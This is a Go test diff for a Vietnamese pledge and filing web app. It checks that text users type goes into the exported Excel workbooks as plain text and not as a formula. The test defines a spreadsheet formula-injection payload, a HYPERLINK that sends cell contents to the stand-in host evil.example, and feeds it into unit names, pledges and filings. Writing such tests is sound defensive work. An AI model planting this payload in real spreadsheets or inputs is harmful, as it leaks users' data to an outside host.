@@ -9,6 +9,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/xuri/excelize/v2"
+
 	"thidua/internal/auth"
 	"thidua/internal/seed"
 )
@@ -824,5 +826,92 @@ func TestPasswordChangeEndsOtherSessions(t *testing.T) {
 	}
 	if r := again.get("/people"); r.status != http.StatusOK {
 		t.Errorf("a new session after the change: %d", r.status)
+	}
+}
+
+// formulaPayload is text a user types that a spreadsheet would run if it
+// were written as a formula.
+const formulaPayload = `=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`
+
+// TestWorkbooksKeepTypedTextAsText: what users type (a unit's name, the
+// pledge's preamble and commitments, a filing's explanation) goes into the
+// exported workbooks as text, never as a formula.
+func TestWorkbooksKeepTypedTextAsText(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	w := newAuthzWorld(t, s)
+	board := s.token(t, "hoidong")
+	head := s.token(t, "canbo.thanhhoa")
+	na := s.token(t, "canbo.nghean")
+	p := formulaPayload
+	must := func(what string, st int, body map[string]any) {
+		t.Helper()
+		if st >= 300 {
+			t.Fatalf("%s: %d %v", what, st, body)
+		}
+	}
+	ht := s.unit(t, seed.ProvinceCode("Hà Tĩnh"))
+	st, body := s.api(t, board, "GET", "/units/"+itoa(ht), nil)
+	must("Hà Tĩnh", st, body)
+	u := jsonAt(body, "unit").(map[string]any)
+	u["name"] = p
+	if from, _ := u["valid_from"].(string); len(from) >= 10 {
+		u["valid_from"] = from[:10]
+	}
+	st, body = s.api(t, board, "PUT", "/units/"+itoa(ht), u)
+	must("rename", st, body)
+	st, body = s.api(t, head, "GET", "/clusters/"+itoa(w.cluster)+"/pledge", nil)
+	must("pledge", st, body)
+	st, body = s.api(t, head, "PUT", "/clusters/"+itoa(w.cluster)+"/pledge", map[string]any{"version": jsonID(t, body, "pledge", "version"),
+		"title": "Giao ước thi đua năm 2026", "place": "Thanh Hóa", "preamble": p, "commitments": []any{map[string]any{"text": p}}})
+	must("pledge save", st, body)
+	setToday(s, 2026, time.June, 15)
+	st, body = s.api(t, na, "GET", "/years/2026/filings/"+itoa(w.unit), nil)
+	must("filing", st, body)
+	var crit int64
+	for _, c := range jsonAt(body, "table", "criteria").([]any) {
+		if jsonAt(c, "method") == "indicator" {
+			crit = jsonID(t, c, "id")
+			break
+		}
+	}
+	st, body = s.api(t, na, "PUT", "/years/2026/filings/"+itoa(w.unit), map[string]any{"version": jsonID(t, body, "filing", "version"),
+		"entries": []any{map[string]any{"criterion_id": crit, "not_arisen": true, "explanation": p, "evidence": p}}})
+	must("filing save", st, body)
+
+	b := s.browser(t)
+	b.login("hoidong")
+	for _, path := range []string{"/pledges/" + itoa(w.pledge) + "/workbook", "/years/2026/filing/workbook?unit=" + itoa(w.unit),
+		"/years/2026/ranking/workbook"} {
+		st, f := awardDocFetch(t, b, path)
+		if st != http.StatusOK {
+			t.Errorf("%s: %d", path, st)
+			continue
+		}
+		found := 0
+		for _, sheet := range f.GetSheetList() {
+			rows, err := f.GetRows(sheet)
+			if err != nil {
+				t.Fatal(err)
+			}
+			for r, row := range rows {
+				for c, v := range row {
+					if !strings.Contains(v, "HYPERLINK") {
+						continue
+					}
+					found++
+					cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
+					if fm, err := f.GetCellFormula(sheet, cell); err != nil || fm != "" {
+						t.Errorf("%s %s!%s: written as a formula %q (%v)", path, sheet, cell, fm, err)
+					}
+					if !strings.Contains(v, p) {
+						t.Errorf("%s %s!%s: the text changed: %q", path, sheet, cell, v)
+					}
+				}
+			}
+		}
+		if found == 0 {
+			t.Errorf("%s: the typed text is not in the workbook, so the test proves nothing", path)
+		}
 	}
 }
